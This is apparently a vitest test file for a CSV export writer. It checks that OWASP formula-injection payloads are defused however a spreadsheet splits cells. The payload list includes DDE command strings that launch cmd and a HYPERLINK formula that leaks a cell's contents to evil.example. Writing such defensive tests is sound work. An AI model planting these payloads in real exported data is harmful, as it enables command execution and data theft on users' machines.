// The console's CSV writer against OWASP's CSV injection payloads: no cell, however a spreadsheet
// cuts the line (by comma, by semicolon as in many European locales, by tab, or blindly at every
// separator), starts with a formula; and the file stays valid CSV that reads back as the user typed.
import { describe, expect, it } from "vitest";
import { csvCell, impersonationsCsv, type ExportedImpersonation } from "@/lib/impersonation/export";
import { parseCsv, runsAsFormula as runs } from "../support/csv";

/** OWASP's CSV injection examples, and the ones that hide a formula after a separator. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=1+2",
  "\t=1+2",
  "\r=1+2",
  "\n=1+2",
  "a;=1+2",
  "a,=1+2",
  "a\t=1+2",
  "a\r\n=1+2",
  "Fix;=1+2",
  "Fix; =1+2",
  'a;"=1+2"',
  "a;;@SUM(1+1)",
  "a,+1,-1,@x",
  "\tstarts with a tab",
  "\rstarts with a CR",
  " =1+2",
];

describe("the CSV writer", () => {
  it.each(PAYLOADS)("defuses %j wherever a spreadsheet may start a cell", (payload) => {
    const line = ["before", csvCell(payload), "after"].join(",");
    for (const delimiter of [",", ";", "\t"]) {
      const cells = parseCsv(`${line}\r\n`, delimiter).flat();
      expect(cells.filter(runs), `read with ${JSON.stringify(delimiter)} as the separator`).toEqual([]);
    }
    // A reader that ignores quotes and cuts at every separator, tab or line break.
    expect(line.split(/[,;\t\r\n]/).filter(runs), "cut at every separator").toEqual([]);
  });

  it.each(PAYLOADS)("keeps %j readable: the same text, with a ' before each would-be formula", (payload) => {
    const [cells] = parseCsv(`${csvCell(payload)},end\r\n`);
    expect(cells).toHaveLength(2);
    const read = cells![0]!;
    expect(read.replaceAll("'", "")).toBe(payload.replaceAll("'", ""));
  });

  it("quotes what CSV needs and leaves plain text alone", () => {
    expect(csvCell('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`);
    expect(["+1", "-2", "@SUM(A1)"].map(csvCell)).toEqual(["'+1", "'-2", "'@SUM(A1)"]);
    expect(csvCell("a,b")).toBe(`"a,b"`);
    expect(csvCell("a;b")).toBe(`"a;b"`);
    expect(csvCell("line\nbreak")).toBe(`"line\nbreak"`);
    expect(csvCell("Fix;=1+2")).toBe(`"Fix;'=1+2"`);
    expect(csvCell("Ward 3 - East (2+2 beds)")).toBe("Ward 3 - East (2+2 beds)");
    expect(csvCell("someone@acme.test")).toBe("someone@acme.test");
    expect(csvCell(null)).toBe("");
  });

  it("writes an export whose every row reads back with every column, no formula in any reading", () => {
    const at = new Date(Date.UTC(2026, 10, 28, 12));
    const person = (name: string) => ({ name, username: name.toLowerCase() });
    const events = PAYLOADS.map((title, i) => ({
      id: BigInt(i + 1),
      type: "item.updated",
      details: { changes: { title: { from: "Fix the lights", to: title } } },
      createdAt: at,
      user: { name: "Jane Doe" },
      actor: { name: "Gina Global" },
      subjectUser: null,
      item: { title },
      board: null,
    }));
    const session: ExportedImpersonation = {
      id: "imp_1",
      status: "ENDED",
      reason: "=cmd|' /C calc'!A0",
      startedAt: at,
      endedAt: at,
      endReason: "SIGN_OUT",
      actor: person("Gina Global"),
      target: person("Jane Doe"),
      endedBy: null,
      events,
    };
    const csv = impersonationsCsv([session], "UTC");
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(1 + PAYLOADS.length);
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([rows[0]!.length]));
    const subject = rows[0]!.indexOf("event_subject");
    expect(rows.slice(1).map((r) => r[subject]!.replaceAll("'", ""))).toEqual(PAYLOADS.map((p) => p.replaceAll("'", "")));
    for (const delimiter of [",", ";", "\t"]) expect(parseCsv(csv, delimiter).flat().filter(runs), JSON.stringify(delimiter)).toEqual([]);
  });
});
